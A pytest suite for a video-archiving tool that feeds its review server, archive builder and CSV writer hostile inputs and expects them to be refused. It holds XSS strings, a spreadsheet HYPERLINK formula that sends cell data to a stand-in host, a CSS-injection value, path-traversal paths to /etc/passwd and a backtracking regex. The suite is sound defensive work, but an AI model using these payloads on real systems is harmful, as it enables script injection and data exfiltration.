"""Safe to put online, nothing lost: the review server probed over a real socket as a hostile
page and a careless colleague would, the archive built from hostile metadata (and opened in
headless Chromium with an alert trap), spreadsheet-safe CSV, and the file faults (planted lock
links, FIFOs, unreadable files, colliding names). Table-driven: each row is one bad input."""

from __future__ import annotations

import csv
import http.client
import io
import json
import os
import shutil
import stat
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from clipkit.project import load_project
from clipkit.subtitles import Word
from clipkit.transcript import Segment, Transcript, to_json_dict

from .conftest import ffmpeg, invoke
from .test_archive import browser  # noqa: F401 - the Chromium fixture

HOSTILE = '<script>alert(1)</script><img src=x onerror="alert(2)">'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def small_video(path: Path, seconds: int = 3, tone: int = 440) -> Path:
    ffmpeg(
        "-f", "lavfi", "-i", f"testsrc2=d={seconds}:s=320x240:r=25",
        "-f", "lavfi", "-i", f"sine=f={tone}:d={seconds}:sample_rate=48000",
        "-c:v", "libx264", "-pix_fmt", "yuv420p", "-c:a", "aac", "-shortest", str(path),
    )  # fmt: skip
    return path


def transcript_for(source: Path, texts: list[str], duration_ms: int = 3000) -> dict[str, Any]:
    step = (duration_ms - 400) // len(texts)
    words = tuple(Word(200 + k * step, 200 + (k + 1) * step - 50, t) for k, t in enumerate(texts))
    t = Transcript(
        segments=(Segment(words[0].start, words[-1].end, " ".join(texts), words=words),),
        language="en", duration_ms=duration_ms, engine="faster-whisper", model="tiny.en",
        source=str(source),
    )  # fmt: skip
    return to_json_dict(t, "test")


CONFIG = """[publish]
playlist = "Stories"

[archive]
organisation = "Org"
"""


def make_project(root: Path, clip: Path) -> Path:
    """A project of two stories: `story.mp4` (hostile words, consent given) and
    `WITHDRAWNSTORY.mp4`, and an extract whose file name is also story.mp4."""
    assert invoke("init", str(root)).exit_code == 0
    (root / "clipkit.toml").write_text(CONFIG, encoding="utf-8")
    for name in ("story.mp4", "WITHDRAWNSTORY.mp4"):
        shutil.copy(clip, root / "recordings" / name)
        words = ["Hello", HOSTILE, FORMULA, "+1", "end."]
        doc = transcript_for(root / "recordings" / name, words)
        (root / "transcripts" / f"{Path(name).stem}.json").write_text(json.dumps(doc), "utf-8")
    (root / "stories.toml").write_text(
        '[story."story.mp4"]\nconsent = "given"\n'
        f"title = {json.dumps('Title ' + HOSTILE)}\nstoryteller = {json.dumps(HOSTILE)}\n"
        f"summary = {json.dumps(HOSTILE)}\nthemes = [{json.dumps(HOSTILE)}]\n"
        '[story."WITHDRAWNSTORY.mp4"]\nconsent = "given"\n',
        encoding="utf-8",
    )
    extract = root / "extracts" / "story.mp4"  # the same file name as the recording
    small_video(extract, 2, 880)
    (root / "extracts" / "story.vtt").write_text(
        "WEBVTT\n\n00:00:00.000 --> 00:00:01.000\nHi\n", encoding="utf-8"
    )
    side = {"format": "clipkit-extract/1", "title": "T " + HOSTILE, "description": HOSTILE,
            "tags": [HOSTILE], "slug": "story", "source": "../recordings/story.mp4",
            "start": 0.5, "end": 2.5, "video": "story.mp4",
            "subtitles": {"srt": "", "vtt": "story.vtt", "cues": 1}, "plan_row": "plan.csv:2"}  # fmt: skip
    (root / "extracts" / "story.json").write_text(json.dumps(side), encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def clip(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return small_video(tmp_path_factory.mktemp("clip") / "clip.mp4")


@pytest.fixture
def hostile(tmp_path: Path, clip: Path) -> Path:
    return make_project(tmp_path / "project", clip)


# --- the review server, over a real socket --------------------------------------------------


@pytest.fixture(scope="module")
def review(tmp_path_factory: pytest.TempPathFactory, clip: Path) -> Iterator[dict[str, Any]]:
    from clipkit.review import start_review

    root = make_project(tmp_path_factory.mktemp("review") / "project", clip)
    (root / "recordings" / "story.mp4.source.json").write_text(
        '{"url": "https://example.org/v?access_token=SECRET"}', encoding="utf-8"
    )
    server, url = start_review(load_project(root))
    token = url.split("token=")[1]
    yield {"root": root, "port": server.server_port, "token": token, "url": url}
    server.shutdown()
    server.server_close()


def request(
    env: dict[str, Any],
    method: str,
    path: str,
    headers: dict[str, str] | None = None,
    body: bytes | None = None,
    host: str | None = "own",
    length: str | None = "auto",
) -> tuple[int, dict[str, str], bytes]:
    conn = http.client.HTTPConnection("127.0.0.1", env["port"], timeout=10)
    conn.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
    if host is not None:
        conn.putheader("Host", f"127.0.0.1:{env['port']}" if host == "own" else host)
    for name, value in (headers or {}).items():
        conn.putheader(name, value)
    if length == "auto" and body is not None:
        conn.putheader("Content-Length", str(len(body)))
    elif length not in (None, "auto"):
        conn.putheader("Content-Length", length)
    conn.endheaders()
    if body:
        conn.send(body)
    response = conn.getresponse()
    data = response.read()
    conn.close()
    return response.status, {k.lower(): v for k, v in response.getheaders()}, data


def own(env: dict[str, Any], **extra: str) -> dict[str, str]:
    """What the review page's own fetch sends: its origin, the cookie, JSON."""
    return {"Origin": f"http://127.0.0.1:{env['port']}",
            "Cookie": f"clipkit-review-{env['port']}={env['token']}",
            "Content-Type": "application/json", **extra}  # fmt: skip


def good_row(**change: Any) -> dict[str, Any]:
    return {
        "source": "recordings/story.mp4",
        "start": 0.2,
        "end": 1.0,
        "title": "A moment",
        **change,
    }


GETS = [
    # (why, path, token?, extra headers, host, status)
    ("the index with the token", "/index.html?token={token}", False, {}, "own", 200),
    ("no token", "/index.html", False, {}, "own", 403),
    ("a wrong token", "/index.html?token=guess", False, {}, "own", 403),
    ("a foreign Host (DNS rebinding)", "/index.html", True, {}, "evil.example:80", 403),
    ("no Host", "/index.html", True, {}, None, 403),
    ("a foreign Origin", "/index.html", True, {"Origin": "http://evil.example"}, "own", 403),
    ("the project's settings", "/clipkit.toml", True, {}, "own", 404),
    ("up out of the site", "/../../clipkit.toml", True, {}, "own", 404),
    ("encoded dots", "/%2e%2e/%2e%2e/stories.toml", True, {}, "own", 404),
    ("a source sidecar with a token", "/media/story.mp4.source.json", True, {}, "own", 404),
    ("the recordings folder", "/recordings/story.mp4", True, {}, "own", 404),
    ("a folder listing", "/stories/", True, {}, "own", 404),
    ("a dot file", "/.clipkit-publish.json", True, {}, "own", 404),
    ("a NUL byte", "/%00", True, {}, "own", 400),
    ("a backslash path", "/..%5c..%5cclipkit.toml", True, {}, "own", 400),
    ("an absolute path", "//etc/passwd", True, {}, "own", 404),
    ("media it does not serve", "/media/../../clipkit.toml", True, {}, "own", 404),
    ("a recording it serves", "/media/story.mp4", True, {}, "own", 200),
    ("a range past the end", "/media/story.mp4", True, {"Range": "bytes=99999999-"}, "own", 416),
    ("a malformed range", "/media/story.mp4", True, {"Range": "bytes=x-y"}, "own", 416),
    ("a range", "/media/story.mp4", True, {"Range": "bytes=10-19"}, "own", 206),
]


@pytest.mark.parametrize(("why", "path", "with_token", "headers", "host", "status"), GETS,
                         ids=[g[0] for g in GETS])  # fmt: skip
def test_review_get(review, why, path, with_token, headers, host, status) -> None:  # type: ignore[no-untyped-def]
    extra = dict(headers)
    if with_token:
        extra["Cookie"] = f"clipkit-review-{review['port']}={review['token']}"
    got, head, body = request(review, "GET", path.format(**review), extra, host=host)
    assert got == status, (why, body[:200])
    assert head["x-content-type-options"] == "nosniff"
    assert "script-src 'self'" in head["content-security-policy"]
    if status >= 400:
        assert json.loads(body)["ok"] is False  # a JSON error, never a traceback page
    assert b"SECRET" not in body and b"[story." not in body
    if status == 206:
        assert head["content-length"] == "10" and head["content-range"].startswith("bytes 10-19/")
    if why == "the index with the token":
        assert "HttpOnly" in head["set-cookie"] and "SameSite=Strict" in head["set-cookie"]


POSTS = [
    # (why, headers change, body, length header, status, error part)
    (
        "no Origin (a curl from another program)",
        {"Origin": None},
        good_row(),
        "auto",
        403,
        "review page",
    ),
    (
        "a foreign Origin (CSRF)",
        {"Origin": "http://evil.example"},
        good_row(),
        "auto",
        403,
        "other sites",
    ),
    ("a null Origin", {"Origin": "null"}, good_row(), "auto", 403, "other sites"),
    ("no token", {"Cookie": None}, good_row(), "auto", 403, "token"),
    (
        "a wrong token",
        {"Cookie": "clipkit-review-1=x", "X-Clipkit-Token": "x"},
        good_row(),
        "auto",
        403,
        "token",
    ),
    (
        "text/plain (a form post)",
        {"Content-Type": "text/plain"},
        good_row(),
        "auto",
        415,
        "application/json",
    ),
    ("negative Content-Length", {}, good_row(), "-1", 400, "Content-Length"),
    ("huge Content-Length", {}, good_row(), str(300 * 1024 * 1024), 413, "bytes"),
    ("no Content-Length", {}, None, None, 411, "Content-Length"),
    ("a JSON array", {}, [good_row()], "auto", 400, "JSON object"),
    ("not JSON", {}, b"{not json", "auto", 400, "not JSON"),
    ("not UTF-8", {}, b"\xff\xfe{}", "auto", 400, "not JSON"),
    (
        "start 1e400",
        {},
        b'{"source": "recordings/story.mp4", "start": 1e400, "end": 2, "title": "x"}',
        "auto",
        400,
        "finite",
    ),
    (
        "NaN",
        {},
        b'{"source": "recordings/story.mp4", "start": NaN, "end": 2, "title": "x"}',
        "auto",
        400,
        "not JSON",
    ),
    (
        "a source outside the project",
        {},
        good_row(source="../../../../etc/story.mp4"),
        "auto",
        400,
        "outside the project",
    ),
    ("an absolute source", {}, good_row(source="/etc/passwd"), "auto", 400, "outside the project"),
    (
        "a project file that is no recording",
        {},
        good_row(source="clipkit.toml"),
        "auto",
        400,
        "not a recording",
    ),
    ("a negative start", {}, good_row(start=-5), "auto", 400, "start at 0"),
    ("end before start", {}, good_row(start=2, end=1), "auto", 400, "end after its start"),
    ("end past the recording", {}, good_row(end=3600), "auto", 400, "ends after the recording"),
    ("a start that is a list", {}, good_row(start=[1]), "auto", 400, "seconds"),
    ("a start that is true", {}, good_row(start=True), "auto", 400, "seconds"),
    ("no title", {}, good_row(title="  "), "auto", 400, "title"),
    ("a title over 100 characters", {}, good_row(title="x" * 101), "auto", 400, "longer than"),
    ("another path", {}, good_row(), "auto", 404, "not found"),
]


@pytest.mark.parametrize(("why", "change", "body", "length", "status", "error"), POSTS,
                         ids=[p[0] for p in POSTS])  # fmt: skip
def test_review_post_refused(review, why, change, body, length, status, error) -> None:  # type: ignore[no-untyped-def]
    headers = own(review)
    for name, value in change.items():
        if value is None:
            headers.pop(name, None)
        else:
            headers[name] = value
    raw = body if isinstance(body, bytes | type(None)) else json.dumps(body).encode()
    if length not in ("auto", None) and raw is not None:
        raw = raw[:100]  # the server must refuse on the header, not wait for 300 MB
    path = "/api/other" if why == "another path" else "/api/rows"
    before = (review["root"] / "plan.csv").read_text(encoding="utf-8")
    got, _, reply = request(review, "POST", path, headers, raw, length=length)
    assert got == status, (why, reply)
    message = json.loads(reply)
    assert message["ok"] is False and error in message["error"], message
    assert (review["root"] / "plan.csv").read_text(encoding="utf-8") == before
    # and the server is still there
    assert request(review, "GET", "/index.html", {"Cookie": own(review)["Cookie"]})[0] == 200


def test_review_twenty_concurrent_saves_keep_twenty_rows(review) -> None:  # type: ignore[no-untyped-def]
    plan = review["root"] / "plan.csv"
    plan.write_text("source,start,end,title,description,tags\n", encoding="utf-8")
    answers: list[int] = []

    def save(k: int) -> None:
        row = good_row(
            title=f"Moment {k}", end=1.0 + 0.05 * k, description=FORMULA if k == 0 else ""
        )
        answers.append(
            request(review, "POST", "/api/rows", own(review), json.dumps(row).encode())[0]
        )

    threads = [threading.Thread(target=save, args=(k,)) for k in range(20)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert answers == [200] * 20
    rows = list(csv.DictReader(plan.open(encoding="utf-8")))
    assert sorted(r["title"] for r in rows) == sorted(f"Moment {k}" for k in range(20))
    # the formula reaches the file neutralised, and clipkit reads it back as it was written
    raw = next(r for r in rows if r["title"] == "Moment 0")["description"]
    assert raw == "'" + FORMULA
    from clipkit.plan import read_plan

    back = next(r for r in read_plan(plan) if r.title == "Moment 0")
    assert back.description == FORMULA
    assert not list(review["root"].glob(".plan.csv.lock"))


# --- the archive from hostile metadata ------------------------------------------------------

ARCHIVE_FAULTS = [
    # (why, change to the project, expected error)
    (
        "logo outside the project",
        {"logo": "/etc/passwd"},
        "[archive] logo = '/etc/passwd' is outside the project folder",
    ),
    (
        "about up out of the project",
        {"about": "../../etc/hostname"},
        "[archive] about = '../../etc/hostname' is outside the project folder",
    ),
    (
        "logo through a link out",
        {"logo": "archive/link.png", "link": "/etc/passwd"},
        "is outside the project folder",
    ),
    (
        "accent injecting CSS",
        {"accent": "red;}body{background:url(//evil.example)"},
        "must be a colour like",
    ),
    (
        "sidecar captions outside",
        {"sidecar": {"subtitles": {"vtt": "../../../../etc/hostname"}}},
        "subtitles.vtt = ",
    ),
    (
        "sidecar video outside",
        {"sidecar": {"video": "/etc/passwd"}},
        "video = '/etc/passwd' is outside",
    ),
    ("a broken template", {"template": "{% if %}"}, "base.html:2: template error"),
]


@pytest.mark.parametrize(
    ("why", "change", "error"), ARCHIVE_FAULTS, ids=[a[0] for a in ARCHIVE_FAULTS]
)
def test_archive_refuses_hostile_settings(
    hostile: Path, why: str, change: dict, error: str
) -> None:  # type: ignore[type-arg]
    settings = {k: v for k, v in change.items() if k in ("logo", "about", "accent")}
    if settings:
        lines = "".join(f"{k} = {json.dumps(v)}\n" for k, v in settings.items())
        (hostile / "clipkit.toml").write_text(CONFIG + lines, encoding="utf-8")
    if "link" in change:
        (hostile / "archive").mkdir(exist_ok=True)
        (hostile / "archive" / "link.png").symlink_to(change["link"])
    if "sidecar" in change:
        side = hostile / "extracts" / "story.json"
        data = json.loads(side.read_text(encoding="utf-8"))
        data.update(change["sidecar"])
        side.write_text(json.dumps(data), encoding="utf-8")
    if "template" in change:
        (hostile / "archive").mkdir(exist_ok=True)
        (hostile / "archive" / "base.html").write_text("<html>\n" + change["template"], "utf-8")
    result = invoke("archive", str(hostile))
    assert result.exit_code == 1, result.output
    assert result.stderr.startswith("Error: ") and error in result.stderr, result.stderr
    assert "Traceback" not in result.output
    site = hostile / "site"
    copied = [p for p in site.rglob("*") if p.is_file() and p.read_bytes()[:5] == b"root:"]
    assert copied == []  # nothing of /etc/passwd


def test_withdrawn_consent_leaves_nothing_of_the_story(hostile: Path) -> None:
    assert invoke("archive", str(hostile)).exit_code == 0
    site = hostile / "site"
    assert list(site.rglob("*WITHDRAWNSTORY*")) and list(site.rglob("*withdrawnstory*"))
    stories = hostile / "stories.toml"
    stories.write_text(stories.read_text().replace(
        '[story."WITHDRAWNSTORY.mp4"]\nconsent = "given"', '[story."WITHDRAWNSTORY.mp4"]\nconsent = "withheld"'
    ))  # fmt: skip
    result = invoke("archive", str(hostile))
    assert result.exit_code == 0, result.output
    left = [p for p in site.rglob("*") if "withdrawnstory" in p.name.lower()]
    assert left == []
    everything = "".join(p.read_text("utf-8", "replace") for p in site.rglob("*") if p.is_file()
                         and p.suffix in (".html", ".js", ".vtt"))  # fmt: skip
    assert "WITHDRAWNSTORY" not in everything and "withdrawnstory" not in everything


def test_names_that_collide_get_their_own_files(hostile: Path) -> None:
    # a second transcript whose name slugifies like `story`
    doc = transcript_for(hostile / "recordings" / "Story.mp4", ["Other", "words."])
    (hostile / "transcripts" / "Story.json").write_text(json.dumps(doc), encoding="utf-8")
    with (hostile / "stories.toml").open("a", encoding="utf-8") as fh:
        fh.write('[story."Story.mp4"]\nconsent = "given"\n')
    result = invoke("archive", str(hostile))
    assert result.exit_code == 0, result.output
    site = hostile / "site"
    assert {p.name for p in (site / "stories").iterdir()} >= {"story.html", "story-2.html"}
    assert "this story is stories/story-2.html" in result.stderr
    # the recording and the extract are both story.mp4: each keeps its own media file
    media = sorted(p.name for p in (site / "media").iterdir())
    assert media == ["story-2.mp4", "story.mp4", "withdrawnstory.mp4"] or len(media) == 3
    sizes = {(site / "media" / m).stat().st_size for m in media}
    assert (hostile / "extracts" / "story.mp4").stat().st_size in sizes
    assert (hostile / "recordings" / "story.mp4").stat().st_size in sizes
    assert "another file is already site/media/story.mp4" in result.stderr


def test_stale_parts_in_the_site_are_removed(hostile: Path) -> None:
    site = hostile / "site"
    (site / "media").mkdir(parents=True)
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    part = site / "media" / f".story.host~{dead.pid}-abc.part.mp4"
    import clipkit.fsutil as fsutil

    part = site / "media" / f".story.{fsutil._HOST}~{dead.pid}-abc.part.mp4"
    part.write_bytes(b"half a copy")
    assert invoke("archive", str(hostile)).exit_code == 0
    assert not part.exists()
    assert not [p for p in site.rglob("*") if ".part" in p.name]


def test_hostile_archive_runs_no_script_in_chromium(hostile: Path, browser) -> None:  # type: ignore[no-untyped-def] # noqa: F811
    from clipkit.serve import serve_directory

    assert invoke("archive", str(hostile)).exit_code == 0
    browser.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": (
        "window.__alerts = 0; window.alert = function () { window.__alerts++; };"
        "window.confirm = window.prompt = window.alert;"
    )})  # fmt: skip
    with serve_directory(hostile / "site") as url:
        for page in ("index.html", "stories/story.html"):
            browser.get(f"{url}/{page}")
            assert browser.execute_script("return window.__alerts") == 0
            assert (
                browser.execute_script("return document.querySelectorAll('img[src=x]').length") == 0
            )
            text = browser.execute_script("return document.body.innerText")
            assert "<script>alert(1)</script>" in text  # shown as text
    vtt = (hostile / "site" / "captions" / "story.vtt").read_text(encoding="utf-8")
    assert "<script>" not in vtt and "&lt;script&gt;" in vtt


# --- spreadsheet-safe CSV -------------------------------------------------------------------

CELLS = ["=1+1", "+44 113 496 0000", "-5", "@SUM(A1)", "\tx", "\rx", "'=x", "''+x", "'plain",
         "plain", "", FORMULA, "a=b", "-"]  # fmt: skip


@pytest.mark.parametrize("value", CELLS)
def test_csv_cells_are_neutralised_and_read_back(tmp_path: Path, value: str) -> None:
    from clipkit.plan import read_plan, update_plan

    plan = tmp_path / "plan.csv"
    row = {"source": "r.mp4", "start": "1", "end": "2", "title": "t", "description": value}
    update_plan(plan, [row])
    written = list(csv.DictReader(plan.open(encoding="utf-8", newline="")))[0]
    assert written["description"][:1] not in ("=", "+", "-", "@", "\t", "\r")
    (back,) = read_plan(plan)
    assert back.description == value.strip()
    update_plan(plan, [{**row, "start": "3"}])  # a rewrite keeps it as it was
    assert [r.description for r in read_plan(plan)] == [value.strip()] * 2


def test_semicolon_plan_keeps_its_separator(tmp_path: Path) -> None:
    from clipkit.plan import read_plan, update_plan

    plan = tmp_path / "plan.csv"
    plan.write_text("source;start;end;title\nr.mp4;0:01;0:05;Eins, zwei\n", encoding="utf-8")
    update_plan(plan, [{"source": "r.mp4", "start": "0:06", "end": "0:09", "title": "Drei"}])
    lines = plan.read_text(encoding="utf-8").splitlines()
    assert lines[0] == "source;start;end;title" and all(";" in x for x in lines)
    assert [r.title for r in read_plan(plan)] == ["Eins, zwei", "Drei"]


def test_find_csv_neutralises_formulas(hostile: Path) -> None:
    result = invoke("find", "HYPERLINK", str(hostile), "--regex", "--csv")
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(result.stdout)) for c in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@")]


# --- files ----------------------------------------------------------------------------------


def test_planted_lock_link_creates_nothing(tmp_path: Path) -> None:
    from clipkit.errors import OutputError
    from clipkit.fsutil import item_lock

    victim = tmp_path / "elsewhere" / "created-by-clipkit"
    victim.parent.mkdir()
    target = tmp_path / "out.mp4"
    (tmp_path / ".out.mp4.lock").symlink_to(victim)
    with pytest.raises(OutputError, match="is a symbolic link"), item_lock(target):
        pass
    assert not victim.exists()


def test_stale_lock_files_are_removed(tmp_path: Path) -> None:
    from clipkit.fsutil import item_lock, remove_stale_parts

    (tmp_path / ".conversation.json.lock").write_text("")  # left by kill -9
    held = tmp_path / "held.mp4"
    with item_lock(held):
        removed = remove_stale_parts(tmp_path)
        assert (tmp_path / ".held.mp4.lock").exists()  # a live holder keeps its own
    assert [p.name for p in removed] == [".conversation.json.lock"]


@pytest.mark.parametrize(
    "command",
    [
        ["transcribe", "--engine", "faster-whisper"],
        ["cut", "--start", "0", "--end", "2", "--dry-run"],
    ],
)
def test_a_fifo_is_refused_not_waited_on(tmp_path: Path, command: list[str]) -> None:
    fifo = tmp_path / "story.mp4"
    os.mkfifo(fifo)
    argv = [sys.executable, "-m", "clipkit", command[0], str(fifo), *command[1:]]
    done = subprocess.run(argv, capture_output=True, text=True, timeout=60)
    assert done.returncode == 1
    last = done.stderr.strip().splitlines()[-1]
    assert last.startswith("Error: ")
    assert last.endswith(f"{fifo}: is a named pipe (FIFO), not a recording file")


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads every file")
def test_an_unreadable_recording_is_named_so(tmp_path: Path, clip: Path) -> None:
    locked = tmp_path / "locked.mp4"
    shutil.copy(clip, locked)
    locked.chmod(0)
    result = invoke("cut", str(locked), "--start", "0", "--end", "2", "--dry-run")
    assert (
        result.stderr
        == f"Error: {locked}: permission denied (the recording is not readable by you)\n"
    )


UNREADABLE = [
    ("plan.csv", "source,start,end,title\nr.mp4,1,2,Caf\xe9\n", ["cut", "--dry-run"]),
    ("stories.toml", '[story."r.mp4"]\ntitle = "Caf\xe9"\n', ["status"]),
    (
        "selections/story.md",
        "recording: recordings/story.mp4\n- [x] Caf\xe9\n",
        ["select", "--apply"],
    ),
]


@pytest.mark.parametrize(("name", "text", "command"), UNREADABLE, ids=[u[0] for u in UNREADABLE])
def test_non_utf8_files_are_named(hostile: Path, name: str, text: str, command: list[str]) -> None:
    path = hostile / name
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(text.encode("cp1252"))
    result = invoke("--project", str(hostile), *command)
    assert result.exit_code == 1, result.output
    assert (
        result.stderr.startswith(f"Error: {path}: not UTF-8 text")
        or f"{path}: not UTF-8" in result.stderr
    ), result.stderr
    assert "save it as UTF-8" in result.stderr and "Traceback" not in result.output


@pytest.mark.parametrize(
    ("first", "second"), [("story.mp4", "story.m4a"), ("My Story.mp4", "my-story.mp4")]
)
def test_recordings_sharing_one_id_are_refused(
    hostile: Path, clip: Path, first: str, second: str
) -> None:
    for name in (first, second):
        shutil.copy(clip, hostile / "recordings" / name)
    result = invoke("batch-rules", str(hostile), "--clipkit", "clipkit")
    assert result.exit_code == 1
    assert "would share one" in result.stderr and "rename one of them" in result.stderr


def test_an_extract_clipkit_did_not_make_is_kept(hostile: Path) -> None:
    mine = hostile / "extracts" / "my-own-edit.mp4"
    mine.write_bytes(b"the editor's own film")
    plan = hostile / "plan.csv"
    plan.write_text("source,start,end,title\nrecordings/story.mp4,0.2,2.5,My own edit\n", "utf-8")
    result = invoke("--project", str(hostile), "cut", "-q", "--no-burn")
    assert result.exit_code == 1
    assert "exists and clipkit did not make it" in result.stderr
    assert mine.read_bytes() == b"the editor's own film"
    forced = invoke("--project", str(hostile), "cut", "-q", "--no-burn", "--force")
    assert forced.exit_code == 0, forced.output
    again = invoke("--project", str(hostile), "cut", "-q", "--no-burn", "--force")
    assert again.exit_code == 0  # its own file now: remade without complaint


def test_speaker_rename_is_all_or_nothing(hostile: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import clipkit.formats
    from clipkit.errors import OutputError

    doc = transcript_for(hostile / "recordings" / "story.mp4", ["Hello", "there."])
    for seg in doc["segments"]:
        for w in seg["words"]:
            w["speaker"] = "Speaker 1"
    json_file = hostile / "transcripts" / "story.json"
    json_file.write_text(json.dumps(doc), encoding="utf-8")
    for suffix, text in ((".srt", "1\n00:00:00,200 --> 00:00:01,000\nHello\n"),
                         (".vtt", "WEBVTT\n"), (".txt", "Hello there.\n")):  # fmt: skip
        json_file.with_suffix(suffix).write_text(text, encoding="utf-8")
    before = {p.name: p.read_bytes() for p in (hostile / "transcripts").glob("story.*")}
    real = clipkit.formats.render

    def disk_full_on_txt(path, cues, transcript=None):  # type: ignore[no-untyped-def]
        if path.suffix == ".txt":
            raise OutputError(f"{path}: no space left on device")
        return real(path, cues, transcript)

    monkeypatch.setattr(clipkit.formats, "render", disk_full_on_txt)
    result = invoke("speakers", str(json_file), "--name", "Speaker 1=<Amira>")
    assert result.exit_code == 1 and "no space left on device" in result.stderr
    after = {p.name: p.read_bytes() for p in (hostile / "transcripts").glob("story.*")}
    assert after == before  # the four still agree
    assert not [p for p in (hostile / "transcripts").iterdir() if ".part" in p.name]
    monkeypatch.setattr(clipkit.formats, "render", real)
    assert invoke("speakers", str(json_file), "--name", "Speaker 1=<Amira>").exit_code == 0
    vtt = json_file.with_suffix(".vtt").read_text(encoding="utf-8")
    assert "<v &lt;Amira&gt;>" in vtt  # a voice tag WebVTT reads as the name


def test_regex_that_backtracks_is_stopped(hostile: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import clipkit.find

    monkeypatch.setattr(clipkit.find, "REGEX_TIMEOUT_S", 0.5)
    doc = transcript_for(hostile / "recordings" / "story.mp4", ["a" * 40 + "b"])
    (hostile / "transcripts" / "story.json").write_text(json.dumps(doc), encoding="utf-8")
    result = invoke("find", "(a|aa)+$", str(hostile), "--regex")
    assert result.exit_code == 1
    assert "and was stopped; simplify it" in result.stderr


def test_export_refuses_colliding_recordings_and_bad_rows(hostile: Path, clip: Path) -> None:
    other = hostile / "more"
    other.mkdir()
    shutil.copy(clip, other / "story.mp4")
    plan = hostile / "plan.csv"
    plan.write_text("source,start,end,title\nrecordings/story.mp4,0.2,1.5,One\n"
                    "more/story.mp4,0.2,1.5,Two\n", encoding="utf-8")  # fmt: skip
    result = invoke("--project", str(hostile), "export")
    assert result.exit_code == 1 and "would both export to story.*" in result.stderr
    plan.write_text("source,start,end,title\nrecordings/story.mp4,0.2,1.5,One\n"
                    "recordings/story.mp4,9,1,Bad\n", encoding="utf-8")  # fmt: skip
    bad = invoke("--project", str(hostile), "export")
    assert bad.exit_code == 1 and "plan.csv:3" in bad.stderr
    assert (hostile / "exports" / "story.otio").is_file()  # the good row still exported


def test_edl_titles_stay_on_one_line(hostile: Path) -> None:
    plan = hostile / "plan.csv"
    plan.write_text('source,start,end,title\nrecordings/story.mp4,0.2,1.5,"Two\nlines"\n', "utf-8")
    result = invoke("--project", str(hostile), "export", "--format", "edl")
    assert result.exit_code == 0, result.output
    edl = (hostile / "exports" / "story.edl").read_text(encoding="utf-8")
    lines = edl.splitlines()
    assert not [x for x in lines if x.strip() == "lines"]
    assert any("two lines" in x.lower() for x in lines)  # the adapter writes capitals


def test_mode_of_written_files_is_kept_private_for_tokens(tmp_path: Path) -> None:
    from clipkit.fsutil import atomic_write_text

    secret = tmp_path / "token.json"
    atomic_write_text(secret, "{}", mode=0o600)
    assert stat.S_IMODE(secret.stat().st_mode) == 0o600


@pytest.mark.parametrize("name", ["with:colon", "with space", "hash#mark"])
def test_a_project_path_make_cannot_name_is_refused(tmp_path: Path, name: str) -> None:
    root = tmp_path / name
    assert invoke("init", str(root)).exit_code == 0
    result = invoke("batch-rules", str(root), "--clipkit", "clipkit")
    assert result.exit_code == 1
    assert result.stderr.startswith(f"Error: {root}: make cannot name files in a folder")


def test_a_style_naming_no_style_fails_in_the_dry_run(hostile: Path) -> None:
    plan = hostile / "plan.csv"
    plan.write_text(
        "source,start,end,title,style\nrecordings/story.mp4,0.2,2.5,One,nosuch\n", "utf-8"
    )
    result = invoke("--project", str(hostile), "cut", "--dry-run")
    assert result.exit_code == 1
    assert "plan.csv:2: unknown style 'nosuch'" in result.stderr


def test_a_fade_longer_than_the_extract_is_reported(hostile: Path) -> None:
    plan = hostile / "plan.csv"
    plan.write_text("source,start,end,title\nrecordings/story.mp4,0.2,2.5,One\n", "utf-8")
    result = invoke("--project", str(hostile), "cut", "--dry-run", "--fade", "5")
    assert result.exit_code == 0, result.output
    assert "warning: fade of 5 s shortened to 0.766 s (a third of the extract)" in result.stdout


def test_an_edl_past_999_events_is_refused(hostile: Path) -> None:
    rows = "".join(f"recordings/story.mp4,0.2,2.5,Take {k}\n" for k in range(1000))
    (hostile / "plan.csv").write_text("source,start,end,title\n" + rows, "utf-8")
    result = invoke("--project", str(hostile), "export", "--format", "edl")
    assert result.exit_code == 1
    assert "story.mp4: 1000 extracts, but an EDL holds at most 999 events" in result.stderr
    assert not (hostile / "exports" / "story.edl").exists()


def test_two_writers_of_stories_toml_keep_both_tables(tmp_path: Path) -> None:
    from clipkit.stories import add_story, load_stories

    names = [f"talk {k}.mp4" for k in range(12)]
    threads = [threading.Thread(target=add_story, args=(tmp_path, n)) for n in names]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(load_stories(tmp_path)) == sorted(names)
